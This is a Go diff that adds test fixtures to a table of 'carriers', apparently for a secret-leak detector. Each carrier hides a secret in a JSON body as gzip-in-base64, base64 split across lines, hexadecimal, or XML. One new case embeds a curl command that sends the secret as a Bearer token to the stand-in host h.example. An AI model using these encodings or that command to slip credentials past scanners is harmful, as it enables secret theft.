@@ -118,6 +118,16 @@ var byName = []carrier{
 	{"gzip in base64 in json", body(jsonType, func(key, secret string) string {
 		return `{"payload":"` + base64.StdEncoding.EncodeToString(Encode("gzip", []byte(`{"`+key+`":`+quoted(secret)+`}`))) + `"}`
 	})},
+	{"base64 in lines in json", body(jsonType, func(key, secret string) string {
+		text := base64.StdEncoding.EncodeToString([]byte(`{"a":"a long enough text","`+key+`":`+quoted(secret)+`}`))
+		return `{"payload":` + quoted(text[:20]+"\r\n"+text[20:40]+"\r\n"+text[40:]) + `}`
+	})},
+	{"hexadecimal in json", body(jsonType, func(key, secret string) string {
+		return `{"payload":"` + hex.EncodeToString([]byte(`{"`+key+`":`+quoted(secret)+`}`)) + `"}`
+	})},
+	{"command in json", body(jsonType, func(key, secret string) string {
+		return `{"text":` + quoted(`curl -H 'Authorization: Bearer `+secret+`' https://h.example`) + `}`
+	})},
 	{"xml in json", body(jsonType, func(key, secret string) string {
 		return `{"payload":` + quoted("<r><"+key+">"+html.EscapeString(secret)+"</"+key+"></r>") + `}`
 	})},
